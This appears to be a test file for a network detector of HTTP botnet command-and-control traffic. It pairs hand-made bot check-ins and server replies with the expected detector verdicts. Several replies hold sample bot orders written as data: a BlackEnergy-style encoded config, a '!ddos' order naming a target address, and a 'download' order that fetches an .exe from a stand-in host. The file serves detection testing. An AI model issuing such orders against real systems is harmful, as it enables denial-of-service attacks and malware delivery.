# Bots that ask a web page for orders.  Exchanges made by hand.

# BlackEnergy's: base64("10;2000;10;0;0;30;100;3;20;1000;2000#wait#10#xHOST_243AEDBA").
tcp 1050 > 80
> "POST /dot/stat.php HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\nHost: gate.example\r\nContent-Length: 35\r\n\r\nid=xHOST_243AEDBA&build_id=D5729CE7"
< "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 72\r\n\r\nMTA7MjAwMDsxMDswOzA7MzA7MTAwOzM7MjA7MTAwMDsyMDAwI3dhaXQjMTAjeEhPU1RfMjQzQUVEQkE="
=> http-bot state="idle" host="gate.example" path="/dot/stat.php" identity="xHOST_243AEDBA" parameters="id build_id" form="base64" orders~"wait#10"

# In plain text, to act; two exchanges on one connection, the second to rest.
tcp 1050 > 8080
> "GET /gate.php?hwid=77aa&os=XP&ver=1.2 HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\nGET /gate.php?hwid=77aa&os=XP&ver=1.2 HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n"
< "HTTP/1.1 200 OK\r\nContent-Length: 25\r\n\r\n!ddos 198.51.100.1 80 600HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nwait"
=> http-bot state="active" path="/gate.php" identity="77aa" parameters="hwid os ver" orders="!ddos 198.51.100.1 80 600" form="plain"
=> http-bot state="idle" orders="wait"

# Without a length, to the end of the connection.
tcp 1050 > 80
> "GET /c.php?bot=a1&country=JP HTTP/1.0\r\nHost: h\r\n\r\n"
< "HTTP/1.0 200 OK\r\n\r\n\r\ndownload|http://x.example/a.exe\r\n"
=> http-bot state="active" orders~"a.exe"

# A browser asks.
tcp 1050 > 80
> "GET /gate.php?hwid=77aa&os=XP HTTP/1.1\r\nHost: h\r\nAccept-Language: ja\r\n\r\n"
< "HTTP/1.1 200 OK\r\nContent-Length: 25\r\n\r\n!ddos 198.51.100.1 80 600"
=> nothing

# A program that looks for an update and says who it is, answered with a version.
tcp 1050 > 80
> "GET /check?id=77aa&ver=1.2 HTTP/1.1\r\nHost: h\r\n\r\n"
< "HTTP/1.1 200 OK\r\nContent-Length: 28\r\n\r\nversion=1.3\r\nurl=http://h/x\r\n"
=> nothing

# Telemetry with an answer of one word, and one in JSON.
tcp 1050 > 80
> "POST /t HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 13\r\n\r\nid=77aa&os=XP"
< "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
=> nothing
tcp 1051 > 80
> "GET /t?id=77aa&os=XP HTTP/1.1\r\nHost: h\r\n\r\n"
< "HTTP/1.1 200 OK\r\nContent-Length: 26\r\n\r\n{\"cmd\":\"wait\",\"seconds\":5}"
=> nothing

# Nobody says who it is.
tcp 1050 > 80
> "GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n"
< "HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\nget /a.html\r\nscan 1/2"
=> nothing

# An order that is only a word in a sentence.
tcp 1050 > 80
> "GET /help?id=1&name=x HTTP/1.1\r\nHost: h\r\n\r\n"
< "HTTP/1.1 200 OK\r\nContent-Length: 32\r\n\r\nDownloads are here. Open a file."
=> nothing
